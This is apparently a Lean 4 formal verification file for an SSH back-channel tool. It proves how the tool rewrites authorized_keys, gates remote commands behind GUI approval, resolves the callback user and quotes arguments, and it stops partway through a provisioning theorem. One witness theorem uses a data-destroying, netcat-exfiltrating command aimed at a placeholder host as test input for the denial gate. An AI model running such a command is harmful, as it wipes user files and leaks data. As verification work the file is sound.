import Mathlib

/-!
Shallow embedding of `ssh-backchannel` (src/ssh_backchannel/main.py).

The program is orchestration of external tools; its verifiable content is the
pure data transformations it performs:
* `configureLines` — the authorized_keys line rewrite done by `configure`;
* `configure_fs` — the file/directory existence and permission effects of
  `configure` (mkdir with `exist_ok=True`, write, chmod 0600);
* `handle_connect` — the gating and streaming behaviour of the forced-command
  handler (zenity availability, approval code, copyfileobj chunks, explicit
  stdin close, wait);
* `run_callback` / `targetUser` — the SSH_CLIENT precondition and the
  mapping-record username resolution;
* `setup_remote` — sequential short-circuiting provisioning steps;
* `shlex_join` / `shlex_split` — CPython `shlex.join` (as called by `main` for
  the `run` subcommand) and `shlex.split` in POSIX mode, for the quoting
  round trip.

Machine-level effects (actual processes, real files) are represented by
explicit state records and event lists; every definition is executable.
-/

namespace SSHBackchannel

/-! ### Small string utilities mirroring Python semantics -/

def toL (s : String) : List Char := s.data

/-- ASCII whitespace recognised by Python `str.strip()` / `str.split()`:
space, tab, newline, carriage return, vertical tab, form feed. -/
def isPyWs (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c = Char.ofNat 11 || c = Char.ofNat 12

/-- Python `str.strip()` with no argument. -/
def pyStrip (l : List Char) : List Char :=
  ((l.dropWhile isPyWs).reverse.dropWhile isPyWs).reverse

/-- Python substring test `needle in hay`. -/
def containsSub (n : List Char) : List Char → Bool
  | [] => n.isEmpty
  | c :: t => n.isPrefixOf (c :: t) || containsSub n t

/-- Python `str.split()` (split on whitespace runs, dropping empty fields),
via a word accumulator kept in reverse order. -/
def pyWordsAux : List Char → List Char → List (List Char)
  | acc, [] => if acc.isEmpty then [] else [acc.reverse]
  | acc, c :: t =>
    if isPyWs c then
      if acc.isEmpty then pyWordsAux [] t else acc.reverse :: pyWordsAux [] t
    else pyWordsAux (c :: acc) t

def pyWords (l : List Char) : List (List Char) := pyWordsAux [] l

/-! ### `configure`: authorized_keys rewriting (main.py lines 27-57)

`configure` reads the authorized_keys lines (an absent file yields `[]`),
keeps every line that does not contain the tag and is not blank
(`TAG not in l and l.strip()`), and appends the fresh tagged entry. -/

/-- `TAG = "# backchannel-key"` from main.py. -/
def TAG : List Char := toL ("# backchannel-key")

/-- The new authorized_keys entry
`command="{connect_exe}",no-pty,no-port-forwarding,restrict {pub_key} {TAG}\n`. -/
def mkEntry (exe pub : List Char) : List Char :=
  toL ("command=\"") ++ (exe ++ (toL ("\",no-pty,no-port-forwarding,restrict ")
    ++ (pub ++ (' ' :: (TAG ++ ['\n'])))))

/-- The filter `TAG not in l and l.strip()` from main.py line 51. -/
def isKeptLine (l : List Char) : Bool :=
  !containsSub TAG l && l.any (fun c => !isPyWs c)

/-- The line transformation performed by `configure` (lines 46-52):
filter, then append the fresh entry. -/
def configureLines (lines : List (List Char)) (exe pub : List Char) : List (List Char) :=
  (lines.filter isKeptLine) ++ [mkEntry exe pub]

/-! ### `configure`: file-system permission effects (main.py lines 54-57)

`auth_path.parent.mkdir(mode=0o700, exist_ok=True)` creates the directory
with mode 0700 only when it does not exist (an existing directory is left
untouched, permissions included); the file is then written and chmod-ed to
0600 unconditionally.  The umask is not modelled (it can only clear bits of
0700, which keeps the created directory owner-only). -/

structure FSState where
  authExists : Bool
  authMode : Nat
  dirExists : Bool
  dirMode : Nat
deriving DecidableEq

def configure_fs (s : FSState) : FSState :=
  let s1 := if s.dirExists then s else { s with dirExists := true, dirMode := 0o700 }
  { s1 with authExists := true, authMode := 0o600 }

/-! ### `handle_connect` (main.py lines 109-151)

The handler's observable behaviour is modelled as a function of
* whether `zenity` is on PATH (`shutil.which("zenity")`),
* the zenity exit code (0 = explicit approval; cancel, close and the
  30-second timeout all return non-zero),
* the payload (`SSH_ORIGINAL_COMMAND`),
* whether stdin is a terminal, and the bytes available on stdin.

On approval the code spawns the payload via `Popen(..., shell=True,
stdin=PIPE)`, streams stdin into the child with `shutil.copyfileobj` (which
copies in chunks of `COPY_BUFSIZE` bytes), explicitly closes the child's
stdin, and only then waits.  Events record that order.  The non-exceptional
execution path is modelled; in every branch the function returns normally,
so the process exit status is 0.  -/

inductive Ev where
  | spawn (cmd : List Char)
  | write (bytes : List Nat)
  | closeStdin
  | wait
deriving DecidableEq

structure ConnectResult where
  events : List Ev
  deniedReported : Bool
  missingToolReported : Bool
  exitCode : Nat
deriving DecidableEq

/-- `shutil.COPY_BUFSIZE` on POSIX: 64 KiB. -/
def COPY_BUFSIZE : Nat := 65536

/-- Chunking performed by `shutil.copyfileobj`: the source bytes are written
to the destination in successive chunks of at most `size` bytes.  `r` is the
remaining capacity of the chunk being accumulated (in reverse) in `acc`. -/
def chunkedAux (size : Nat) : Nat → List Nat → List Nat → List (List Nat)
  | _, acc, [] => if acc.isEmpty then [] else [acc.reverse]
  | r, acc, x :: xs =>
    if r ≤ 1 then (x :: acc).reverse :: chunkedAux size size [] xs
    else chunkedAux size (r - 1) (x :: acc) xs

def chunked (size : Nat) (bs : List Nat) : List (List Nat) :=
  chunkedAux size size [] bs

def evBytes : Ev → List Nat
  | .write b => b
  | _ => []

def handle_connect (zenityAvail : Bool) (zenityCode : Nat) (payload : List Char)
    (stdinTty : Bool) (stdinBytes : List Nat) : ConnectResult :=
  if zenityAvail then
    if zenityCode = 0 then
      { events := Ev.spawn payload ::
          ((if stdinTty then [] else (chunked COPY_BUFSIZE stdinBytes).map Ev.write)
            ++ [Ev.closeStdin, Ev.wait]),
        deniedReported := false, missingToolReported := false, exitCode := 0 }
    else
      { events := [], deniedReported := true, missingToolReported := false, exitCode := 0 }
  else
    { events := [], deniedReported := false, missingToolReported := true, exitCode := 0 }

/-! ### `run_callback` (main.py lines 82-107)

`run_callback` requires `SSH_CLIENT` (absent or empty is fatal:
`sys.exit(message)` exits with status 1), takes the first
whitespace-separated word of it as the peer IP, resolves the dial-back user
from `~/.ssh_backchannel_config` (for each line containing a colon,
`line.strip().split(":", 1)` and the part after the first colon is kept, the
last such line surviving; `target_user or os.getlogin()` then replaces both
`None` and the empty string by the local login), and finally invokes
outbound ssh, forwarding stdin when it is not a terminal. -/

/-- Python `":" in line`. -/
def hasColon (l : List Char) : Bool := l.any (fun c => c = ':')

/-- `line.strip().split(":", 1)[1]`: everything after the first colon. -/
def afterColon (l : List Char) : List Char :=
  (l.dropWhile (fun c => !(c = ':'))).drop 1

/-- One iteration of the mapping-file loop: a line containing a colon
overwrites the accumulator. -/
def mapStep (acc : Option (List Char)) (l : List Char) : Option (List Char) :=
  if hasColon l then some (afterColon (pyStrip l)) else acc

/-- The whole loop over the mapping-file lines (main.py lines 91-96). -/
def parseUser (lines : List (List Char)) : Option (List Char) :=
  lines.foldl mapStep none

/-- `target_user = target_user or os.getlogin()` after the loop, with an
absent file leaving `target_user = None`. -/
def targetUser (mapping : Option (List (List Char))) (login : List Char) : List Char :=
  match mapping with
  | none => login
  | some lines =>
    match parseUser lines with
    | none => login
    | some u => if u.isEmpty then login else u

/-- The same resolution, phrased the way the amended claim reads: the last
colon-containing line (scanning from the end) supplies the name after its
first colon; an empty remainder, no colon-containing line, or an absent
record all fall back to the login name. -/
def specTargetUser (mapping : Option (List (List Char))) (login : List Char) : List Char :=
  match mapping with
  | none => login
  | some lines =>
    match lines.reverse.find? hasColon with
    | none => login
    | some l => if (afterColon (pyStrip l)).isEmpty then login else afterColon (pyStrip l)

def NO_SSH_CLIENT_MSG : List Char :=
  toL ("[-] Error: No SSH_CLIENT detected. Run this from an SSH session.")

inductive CallbackResult where
  | fatalExit (code : Nat) (msg : List Char)
  | crash
  | connect (user ip cmd : List Char) (stdinForwarded : Bool)
deriving DecidableEq

def run_callback (sshClient : Option (List Char)) (mapping : Option (List (List Char)))
    (login : List Char) (stdinTty : Bool) (cmd : List Char) : CallbackResult :=
  match sshClient with
  | none => .fatalExit 1 NO_SSH_CLIENT_MSG
  | some sc =>
    if sc.isEmpty then .fatalExit 1 NO_SSH_CLIENT_MSG
    else
      match pyWords sc with
      | [] => .crash
      | ip :: _ => .connect (targetUser mapping login) ip cmd (!stdinTty)

/-! ### `setup_remote` (main.py lines 61-80)

Five external commands run in order, each with `check=True`, inside one
`try`: a failing command raises `CalledProcessError`, which skips the
remaining commands, prints the error, and calls `sys.exit(1)`.  The model
takes one boolean per step (`true` = the external command succeeded) and
returns the commands actually executed, whether an error was reported, and
the process exit status. -/

def REMOTE_CONFIG_PATH : List Char := toL (".ssh_backchannel_config")

/-- The `host:user` mapping line appended on the remote (main.py line 69). -/
def mappingLine (localHost localUser : List Char) : List Char :=
  localHost ++ (':' :: (localUser ++ ['\n']))

/-- The argv lists of the five provisioning commands, in program order
(main.py lines 72-76). -/
def setupRemoteCmds (target privKey : List Char) : List (List (List Char)) :=
  [ [toL ("ssh"), target,
      toL ("touch ") ++ (REMOTE_CONFIG_PATH ++ (toL (" && chmod 600 ") ++ REMOTE_CONFIG_PATH))],
    [toL ("ssh"), target, toL ("cat >> ") ++ REMOTE_CONFIG_PATH],
    [toL ("ssh"), target, toL ("mkdir -p ~/.ssh && chmod 700 ~/.ssh")],
    [toL ("scp"), privKey, target ++ toL (":~/.ssh/id_backchannel")],
    [toL ("ssh"), target, toL ("chmod 600 ~/.ssh/id_backchannel")] ]

/-- Sequential execution with short-circuit on the first failure:
returns (commands executed, error reported, exit status). -/
def runSeq {α : Type} : List (α × Bool) → List α × Bool × Nat
  | [] => ([], false, 0)
  | (c, ok) :: rest =>
    if ok then
      let r := runSeq rest
      (c :: r.1, r.2.1, r.2.2)
    else ([c], true, 1)

def setup_remote (target privKey : List Char) (outcomes : List Bool) :
    List (List (List Char)) × Bool × Nat :=
  runSeq ((setupRemoteCmds target privKey).zip outcomes)

/-! ### `shlex.join` and `shlex.split` (main.py lines 173-175)

The `run` subcommand passes `shlex.join(args.cmd_words)` to `run_callback`.
CPython's `shlex.quote` returns `''` for the empty string, the word itself
when every character matches `[A-Za-z0-9_@%+=:,.-]` or a slash (the ASCII regex
`_find_unsafe`), and otherwise wraps the word in single quotes after
replacing every single quote by the five characters quote, double-quote,
quote, double-quote, quote.  `shlex.join` joins the quoted words with single
spaces.  `shlex.split` is the POSIX-mode lexer with `whitespace_split=True`
and `comments=False`: whitespace (space, tab, CR, LF) separates tokens;
a single quote makes everything up to the next single quote literal; a
double quote makes everything up to the next double quote literal except
that a backslash escapes a double quote or a backslash (and is otherwise
kept together with the following character); outside quotes a backslash
makes the next character literal; an unterminated quote or a trailing
backslash is an error (`None`). -/

/-- Single quote. -/
def sqC : Char := Char.ofNat 39

/-- Double quote. -/
def dqC : Char := Char.ofNat 34

/-- Backslash. -/
def bsC : Char := Char.ofNat 92

/-- `shlex.whitespace`. -/
def isShlexWs (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\r' || c = '\n'

/-- Complement of CPython's `shlex._find_unsafe` regex (alphanumerics, underscore, and the characters at-sign percent plus equals colon comma dot slash hyphen)
with ASCII `\w`. -/
def isSafeChar (c : Char) : Bool :=
  ('a' ≤ c && c ≤ 'z') || ('A' ≤ c && c ≤ 'Z') || ('0' ≤ c && c ≤ '9') ||
  c = '_' || c = '@' || c = '%' || c = '+' || c = '=' || c = ':' ||
  c = ',' || c = '.' || c = '/' || c = '-'

/-- `s.replace("'", "'\"'\"'")`. -/
def escSq : List Char → List Char
  | [] => []
  | c :: t =>
    if c = sqC then sqC :: dqC :: sqC :: dqC :: sqC :: escSq t
    else c :: escSq t

/-- CPython `shlex.quote`. -/
def shlex_quote (w : List Char) : List Char :=
  if w.isEmpty then [sqC, sqC]
  else if w.all isSafeChar then w
  else sqC :: (escSq w ++ [sqC])

/-- CPython `shlex.join`: space-join of the quoted words. -/
def shlex_join : List (List Char) → List Char
  | [] => []
  | [w] => shlex_quote w
  | w :: ws => shlex_quote w ++ (' ' :: shlex_join ws)

/-- The command string `main` hands to `run_callback` for `run <words...>`
(main.py line 175): `shlex.join(args.cmd_words)`. -/
def mainRunPayload (cmdWords : List (List Char)) : List Char :=
  shlex_join cmdWords

/-- Lexer modes of `shlex` in POSIX mode: outside quotes, just after an
escape character outside quotes, inside single quotes, inside double quotes,
and just after an escape character inside double quotes. -/
inductive SMode where
  | norm
  | esc
  | insq
  | indq
  | escdq

/-- The shlex POSIX lexer, one character per step.  `tok` is `none` when no
token is in progress and `some t` when the characters `t` have been
collected for the current token (`some []` after an empty quoted string,
which still yields a token).  An unterminated quote or trailing escape
character is a lexing error. -/
def splitAux : SMode → Option (List Char) → List Char → Option (List (List Char))
  | .norm, tok, [] =>
    some (match tok with | none => [] | some t => [t])
  | .norm, tok, c :: cs =>
    if isShlexWs c then
      match tok with
      | none => splitAux .norm none cs
      | some t => (splitAux .norm none cs).map (fun r => t :: r)
    else if c = sqC then splitAux .insq (some (tok.getD [])) cs
    else if c = dqC then splitAux .indq (some (tok.getD [])) cs
    else if c = bsC then splitAux .esc (some (tok.getD [])) cs
    else splitAux .norm (some (tok.getD [] ++ [c])) cs
  | .esc, _, [] => none
  | .esc, tok, d :: cs => splitAux .norm (some (tok.getD [] ++ [d])) cs
  | .insq, _, [] => none
  | .insq, tok, c :: cs =>
    if c = sqC then splitAux .norm tok cs
    else splitAux .insq (some (tok.getD [] ++ [c])) cs
  | .indq, _, [] => none
  | .indq, tok, c :: cs =>
    if c = dqC then splitAux .norm tok cs
    else if c = bsC then splitAux .escdq (some (tok.getD [])) cs
    else splitAux .indq (some (tok.getD [] ++ [c])) cs
  | .escdq, _, [] => none
  | .escdq, tok, d :: cs =>
    if d = dqC || d = bsC then splitAux .indq (some (tok.getD [] ++ [d])) cs
    else splitAux .indq (some (tok.getD [] ++ [bsC, d])) cs

/-- CPython `shlex.split` (POSIX mode, `whitespace_split=True`,
`comments=False`); `none` on a lexing error. -/
def shlex_split (s : List Char) : Option (List (List Char)) :=
  splitAux .norm none s

/-! ### Helper lemmas about `containsSub` -/

theorem isPrefixOf_self_append (t x : List Char) : t.isPrefixOf (t ++ x) = true := by
  induction t with
  | nil => simp [List.isPrefixOf]
  | cons c t ih => simp [List.isPrefixOf, ih]

theorem containsSub_nil_left (l : List Char) : containsSub [] l = true := by
  cases l with
  | nil => rfl
  | cons c t => simp [containsSub, List.isPrefixOf]

theorem containsSub_self_append (n x : List Char) : containsSub n (n ++ x) = true := by
  cases n with
  | nil => exact containsSub_nil_left x
  | cons c t =>
    show containsSub (c :: t) (c :: (t ++ x)) = true
    simp [containsSub, List.isPrefixOf, isPrefixOf_self_append]

theorem containsSub_cons_of (n : List Char) (c : Char) (l : List Char)
    (h : containsSub n l = true) : containsSub n (c :: l) = true := by
  simp [containsSub, h]

theorem containsSub_append_right (n a b : List Char)
    (h : containsSub n b = true) : containsSub n (a ++ b) = true := by
  induction a with
  | nil => simpa using h
  | cons c t ih => simpa using containsSub_cons_of n c (t ++ b) ih

theorem tag_in_mkEntry (exe pub : List Char) :
    containsSub TAG (mkEntry exe pub) = true := by
  unfold mkEntry
  apply containsSub_append_right
  apply containsSub_append_right
  apply containsSub_append_right
  apply containsSub_append_right
  exact containsSub_cons_of _ _ _ (containsSub_self_append TAG ['\n'])

/-- Claim C1: for every prior content of the authorized-keys file (an absent
file is the empty list), `configure` leaves exactly one line containing the
tag marker, and every non-tagged, non-blank line present before is still
present afterward, byte-identical and in the same relative order (the kept
lines form a prefix of the result, followed only by the fresh entry); in the
scenario of one foreign untagged entry and one stale tagged entry, the result
is exactly the foreign entry followed by the fresh tagged entry. -/
theorem configure_tag_invariant
    (lines : List (List Char)) (exe pub foreign stale : List Char)
    (hf1 : containsSub TAG foreign = false)
    (hf2 : foreign.any (fun c => !isPyWs c) = true)
    (hs : containsSub TAG stale = true) :
    (configureLines lines exe pub).countP (fun l => containsSub TAG l) = 1
    ∧ lines.filter isKeptLine <+: configureLines lines exe pub
    ∧ configureLines [foreign, stale] exe pub = [foreign, mkEntry exe pub] := by
  refine ⟨?_, ⟨[mkEntry exe pub], rfl⟩, ?_⟩
  · unfold configureLines
    rw [List.countP_append]
    have h0 : (lines.filter isKeptLine).countP (fun l => containsSub TAG l) = 0 := by
      rw [List.countP_eq_zero]
      intro a ha
      have := (List.mem_filter.mp ha).2
      unfold isKeptLine at this
      cases hc : containsSub TAG a with
      | false => simp [hc]
      | true => rw [hc] at this; simp at this
    rw [h0]
    simp [tag_in_mkEntry]
  · unfold configureLines
    have hk1 : isKeptLine foreign = true := by
      unfold isKeptLine; rw [hf1, hf2]; rfl
    have hk2 : isKeptLine stale = false := by
      unfold isKeptLine; rw [hs]; rfl
    simp [List.filter, hk1, hk2]

/-- Witness for C1 at concrete inputs. -/
theorem configure_tag_invariant_witness :
    (configureLines [toL ("ssh-rsa AAA alice@host"), toL ("old # backchannel-key")]
        (toL ("/usr/bin/ssh-backchannel-connect")) (toL ("ssh-ed25519 KEY"))).countP
        (fun l => containsSub TAG l) = 1
    ∧ [toL ("ssh-rsa AAA alice@host"), toL ("old # backchannel-key")].filter isKeptLine
        <+: configureLines [toL ("ssh-rsa AAA alice@host"), toL ("old # backchannel-key")]
            (toL ("/usr/bin/ssh-backchannel-connect")) (toL ("ssh-ed25519 KEY"))
    ∧ configureLines [toL ("ssh-rsa AAA alice@host"), toL ("old # backchannel-key")]
        (toL ("/usr/bin/ssh-backchannel-connect")) (toL ("ssh-ed25519 KEY"))
        = [toL ("ssh-rsa AAA alice@host"),
           mkEntry (toL ("/usr/bin/ssh-backchannel-connect")) (toL ("ssh-ed25519 KEY"))] :=
  configure_tag_invariant
    [toL ("ssh-rsa AAA alice@host"), toL ("old # backchannel-key")]
    (toL ("/usr/bin/ssh-backchannel-connect")) (toL ("ssh-ed25519 KEY"))
    (toL ("ssh-rsa AAA alice@host")) (toL ("old # backchannel-key"))
    (by decide) (by decide) (by decide)

/-- Claim C8 (amended): after `configure`, the authorized-keys file exists with
permission bits exactly 0600; the containing directory exists, and its mode is
0700 when it was created by this run but keeps its prior mode when it already
existed (`mkdir(..., exist_ok=True)` does not change an existing directory's
permissions). -/
theorem configure_fs_perms (s : FSState) :
    (configure_fs s).authExists = true
    ∧ (configure_fs s).authMode = 0o600
    ∧ (configure_fs s).dirExists = true
    ∧ (configure_fs s).dirMode = (if s.dirExists then s.dirMode else 0o700) := by
  cases h : s.dirExists <;> simp [configure_fs, h]

/-- Counterexample for C8 as stated: starting from a pre-existing containing
directory with mode 0755, `configure` leaves the directory world-readable
(mode 0755, which is not owner-only), contradicting "its containing directory
exists with owner-only permissions". -/
theorem configure_fs_counterexample :
    (configure_fs { authExists := true, authMode := 0o644,
                    dirExists := true, dirMode := 0o755 }).dirMode = 0o755
    ∧ (configure_fs { authExists := true, authMode := 0o644,
                      dirExists := true, dirMode := 0o755 }).dirMode % 64 ≠ 0 := by
  decide

theorem chunkedAux_join (size : Nat) (xs : List Nat) :
    ∀ r acc, (chunkedAux size r acc xs).flatten = acc.reverse ++ xs := by
  induction xs with
  | nil =>
    intro r acc
    cases acc <;> simp [chunkedAux]
  | cons x xs ih =>
    intro r acc
    by_cases h : r ≤ 1
    · simp [chunkedAux, h, ih]
    · simp [chunkedAux, h, ih]

theorem chunked_join (size : Nat) (bs : List Nat) : (chunked size bs).flatten = bs := by
  simpa using chunkedAux_join size bs size []

/-- Claim C2: for every payload (shell metacharacters included), whenever the
GUI confirmation returns a non-zero code (cancel, close, or the timeout),
`handle_connect` performs no action at all (no spawn of the payload), reports
the denial, and the process exit status is 0; conversely the payload is
spawned only when zenity was available and returned exactly 0. -/
theorem handle_connect_deny_safe :
    (∀ code payload tty bytes, code ≠ 0 →
      (handle_connect true code payload tty bytes).events = []
      ∧ (handle_connect true code payload tty bytes).deniedReported = true
      ∧ (handle_connect true code payload tty bytes).exitCode = 0)
    ∧ (∀ avail code payload tty bytes,
        Ev.spawn payload ∈ (handle_connect avail code payload tty bytes).events →
        avail = true ∧ code = 0) := by
  constructor
  · intro code payload tty bytes h
    simp [handle_connect, h]
  · intro avail code payload tty bytes h
    cases avail with
    | false => simp [handle_connect] at h
    | true =>
      by_cases hc : code = 0
      · exact ⟨rfl, hc⟩
      · simp [handle_connect, hc] at h

/-- Witness for C2: a metacharacter-laden payload is denied on zenity exit
code 5 (the timeout code) with exit status 0, and is spawned on code 0. -/
theorem handle_connect_deny_safe_witness :
    ((handle_connect true 5 (toL ("rm -rf ~; echo $(whoami) | nc evil 80")) false []).events = []
      ∧ (handle_connect true 5 (toL ("rm -rf ~; echo $(whoami) | nc evil 80"))
          false []).deniedReported = true
      ∧ (handle_connect true 5 (toL ("rm -rf ~; echo $(whoami) | nc evil 80")) false []).exitCode = 0)
    ∧ (true = true ∧ 0 = 0) :=
  ⟨handle_connect_deny_safe.1 5 (toL ("rm -rf ~; echo $(whoami) | nc evil 80")) false []
      (by decide),
   handle_connect_deny_safe.2 true 0 (toL ("ls")) true [] (by decide)⟩

/-- Claim C3 (amended): if the GUI confirmation tool is not on PATH,
`handle_connect` performs no action (the command is never executed) and
reports the missing tool, but the process exits with status 0, not non-zero —
the function only prints `[!] Error: Zenity not found. Closing.` and returns
(main.py lines 150-151 contain no `sys.exit`). -/
theorem handle_connect_missing_tool (code : Nat) (payload : List Char)
    (tty : Bool) (bytes : List Nat) :
    (handle_connect false code payload tty bytes).events = []
    ∧ (handle_connect false code payload tty bytes).missingToolReported = true
    ∧ (handle_connect false code payload tty bytes).exitCode = 0 := by
  simp [handle_connect]

/-- Counterexample for C3 as stated: with zenity missing, the command is not
executed and the failure is reported, but the process exit status is 0,
contradicting the claimed non-zero exit. -/
theorem handle_connect_missing_tool_cex :
    (handle_connect false 0 (toL ("ls")) true []).events = []
    ∧ (handle_connect false 0 (toL ("ls")) true []).missingToolReported = true
    ∧ (handle_connect false 0 (toL ("ls")) true []).exitCode = 0 := by
  decide

/-- Claim C7: on approval with a non-terminal stdin carrying `bytes`, the
handler's event sequence is: spawn of the payload, then writes whose payloads
concatenate to exactly the input bytes, then the explicit close of the
child's stdin, and only then the wait on the child. -/
theorem handle_connect_streams (payload : List Char) (bytes : List Nat) :
    ∃ ws, (handle_connect true 0 payload false bytes).events
            = Ev.spawn payload :: (ws ++ [Ev.closeStdin, Ev.wait])
      ∧ (∀ e ∈ ws, ∃ b, e = Ev.write b)
      ∧ (ws.map evBytes).flatten = bytes := by
  refine ⟨(chunked COPY_BUFSIZE bytes).map Ev.write, ?_, ?_, ?_⟩
  · simp [handle_connect]
  · intro e he
    rcases List.mem_map.mp he with ⟨b, _, rfl⟩
    exact ⟨b, rfl⟩
  · rw [List.map_map]
    have h : (evBytes ∘ Ev.write) = id := funext fun b => rfl
    rw [h, List.map_id, chunked_join]

/-- Witness for C7 at a concrete payload and byte stream. -/
theorem handle_connect_streams_witness :
    ∃ ws, (handle_connect true 0 (toL ("wc -c")) false [104, 105, 10]).events
            = Ev.spawn (toL ("wc -c")) :: (ws ++ [Ev.closeStdin, Ev.wait])
      ∧ (∀ e ∈ ws, ∃ b, e = Ev.write b)
      ∧ (ws.map evBytes).flatten = [104, 105, 10] :=
  handle_connect_streams (toL ("wc -c")) [104, 105, 10]

theorem find_hasColon_append (a b : List (List Char)) :
    (a ++ b).find? hasColon = match a.find? hasColon with
      | some x => some x
      | none => b.find? hasColon := by
  induction a with
  | nil => simp
  | cons x a ih =>
    cases h : hasColon x with
    | true =>
      rw [List.cons_append, List.find?_cons_of_pos _ h, List.find?_cons_of_pos _ h]
    | false =>
      rw [List.cons_append, List.find?_cons_of_neg _ (by simp [h]), List.find?_cons_of_neg _ (by simp [h]), ih]

theorem parseUser_foldl (lines : List (List Char)) :
    ∀ acc, lines.foldl mapStep acc
      = match lines.reverse.find? hasColon with
        | some l => some (afterColon (pyStrip l))
        | none => acc := by
  induction lines with
  | nil => intro acc; simp
  | cons l ls ih =>
    intro acc
    rw [List.foldl_cons, ih (mapStep acc l), List.reverse_cons, find_hasColon_append]
    cases hfind : ls.reverse.find? hasColon with
    | some l' => rfl
    | none =>
      cases hc : hasColon l with
      | true =>
        rw [List.find?_cons_of_pos _ hc]
        show mapStep acc l = some (afterColon (pyStrip l))
        unfold mapStep
        rw [hc]
        rfl
      | false =>
        rw [List.find?_cons_of_neg _ (by simp [hc])]
        show mapStep acc l = acc
        unfold mapStep
        rw [hc]
        rfl

/-- Claim C5 (amended): `run_callback`'s dial-back username is determined by
the last colon-containing line of the mapping record, taking the part after
its first colon, except that an empty remainder (for instance a trailing line
`host:`), the absence of any colon-containing line, and the absence of the
record itself all fall back to the Responder's own login username. -/
theorem run_callback_user_resolution (mapping : Option (List (List Char)))
    (login : List Char) :
    targetUser mapping login = specTargetUser mapping login := by
  cases mapping with
  | none => rfl
  | some lines =>
    show (match parseUser lines with
          | none => login
          | some u => if u.isEmpty then login else u)
        = (match lines.reverse.find? hasColon with
          | none => login
          | some l => if (afterColon (pyStrip l)).isEmpty then login
                      else afterColon (pyStrip l))
    rw [parseUser, parseUser_foldl lines none]
    cases h : lines.reverse.find? hasColon with
    | none => rfl
    | some l => rfl

/-- Counterexample for C5 as stated: with the mapping record present and its
last colon-containing entry `h:` (whose username part is empty), the code
does not use that last matching entry — it falls back to the login name
`bob`, so "the last matching entry wins" fails. -/
theorem run_callback_user_counterexample :
    targetUser (some [toL ("h:a"), toL ("h:")]) (toL ("bob")) = toL ("bob")
    ∧ afterColon (pyStrip (toL ("h:"))) = ([] : List Char)
    ∧ toL ("bob") ≠ ([] : List Char) := by
  decide

/-- Claim C4: with `SSH_CLIENT` absent, `run_callback` exits with status 1
and the error message, and no outbound connection is attempted; conversely an
outbound connection only ever happens when the variable is present (and
non-empty). -/
theorem run_callback_requires_ssh_client :
    (∀ mapping login tty cmd,
      run_callback none mapping login tty cmd = .fatalExit 1 NO_SSH_CLIENT_MSG
      ∧ ∀ u ip c fwd, run_callback none mapping login tty cmd ≠ .connect u ip c fwd)
    ∧ (∀ sc mapping login tty cmd u ip c fwd,
        run_callback sc mapping login tty cmd = .connect u ip c fwd →
        ∃ s, sc = some s ∧ s ≠ []) := by
  constructor
  · intro mapping login tty cmd
    exact ⟨rfl, by intro u ip c fwd h; exact CallbackResult.noConfusion h⟩
  · intro sc mapping login tty cmd u ip c fwd h
    cases sc with
    | none => exact CallbackResult.noConfusion h
    | some s =>
      refine ⟨s, rfl, ?_⟩
      intro hs
      subst hs
      exact CallbackResult.noConfusion h

/-- Witness for C4 at concrete inputs: the absent-variable branch, and the
present-variable branch reaching a connection. -/
theorem run_callback_requires_ssh_client_witness :
    (run_callback none none (toL ("bob")) true (toL ("ls"))
        = .fatalExit 1 NO_SSH_CLIENT_MSG
      ∧ ∀ u ip c fwd, run_callback none none (toL ("bob")) true (toL ("ls"))
          ≠ .connect u ip c fwd)
    ∧ ∃ s, some (toL ("192.0.2.7 51000 22")) = some s ∧ s ≠ [] :=
  ⟨run_callback_requires_ssh_client.1 none (toL ("bob")) true (toL ("ls")),
   run_callback_requires_ssh_client.2 (some (toL ("192.0.2.7 51000 22"))) none
     (toL ("bob")) true (toL ("ls")) (toL ("bob")) (toL ("192.0.2.7")) (toL ("ls")) false
     (by decide)⟩

/-- Claim C10: the mapping parser splits each colon-containing line at its
first colon only (`host:a:b` yields the user `a:b`); colon-free lines are
ignored wherever they occur; and a record whose lines are all colon-free
behaves exactly like an absent record, falling back to the login name. -/
theorem run_callback_mapping_parsing :
    (∀ login, targetUser (some [toL ("host:a:b")]) login = toL ("a:b"))
    ∧ (∀ pre post l login, hasColon l = false →
        targetUser (some (pre ++ l :: post)) login = targetUser (some (pre ++ post)) login)
    ∧ (∀ lines login, (∀ l ∈ lines, hasColon l = false) →
        targetUser (some lines) login = login ∧ targetUser none login = login) := by
  refine ⟨?_, ?_, ?_⟩
  · intro login; rfl
  · intro pre post l login h
    have hp : parseUser (pre ++ l :: post) = parseUser (pre ++ post) := by
      unfold parseUser
      rw [List.foldl_append, List.foldl_append, List.foldl_cons]
      have hstep : mapStep (pre.foldl mapStep none) l = pre.foldl mapStep none := by
        unfold mapStep; rw [h]; rfl
      rw [hstep]
    show (match parseUser (pre ++ l :: post) with
          | none => login
          | some u => if u.isEmpty then login else u)
        = (match parseUser (pre ++ post) with
          | none => login
          | some u => if u.isEmpty then login else u)
    rw [hp]
  · intro lines login h
    have hp : parseUser lines = none := by
      rw [parseUser, parseUser_foldl lines none]
      cases hf : lines.reverse.find? hasColon with
      | none => rfl
      | some l =>
        have hm := List.mem_reverse.mp (List.mem_of_find?_eq_some hf)
        have hpl := List.find?_some hf
        rw [h l hm] at hpl
        exact Bool.noConfusion hpl
    constructor
    · show (match parseUser lines with
            | none => login
            | some u => if u.isEmpty then login else u) = login
      rw [hp]
    · rfl

/-- Witness for C10 at concrete inputs. -/
theorem run_callback_mapping_parsing_witness :
    targetUser (some [toL ("host:a:b")]) (toL ("bob")) = toL ("a:b")
    ∧ targetUser (some ([toL ("h:x")] ++ toL ("nocolon") :: [])) (toL ("bob"))
        = targetUser (some ([toL ("h:x")] ++ [])) (toL ("bob"))
    ∧ (targetUser (some [toL ("nocolon")]) (toL ("bob")) = toL ("bob")
        ∧ targetUser none (toL ("bob")) = toL ("bob")) :=
  ⟨run_callback_mapping_parsing.1 (toL ("bob")),
   run_callback_mapping_parsing.2.1 [toL ("h:x")] [] (toL ("nocolon")) (toL ("bob"))
     (by decide),
   run_callback_mapping_parsing.2.2 [toL ("nocolon")] (toL ("bob"))
     (by decide)⟩

/-- Claim C6: the five provisioning steps run strictly in sequence; when all
succeed, all five commands run, nothing is reported and the exit status is 0;
when some step's external command fails, exactly the commands up to and
including the first failing one have run (the later steps are not executed),
the error is reported, and the process exits with status 1. -/
theorem setup_remote_short_circuits (target privKey : List Char)
    (o1 o2 o3 o4 o5 : Bool) :
    setup_remote target privKey [o1, o2, o3, o4, o5]
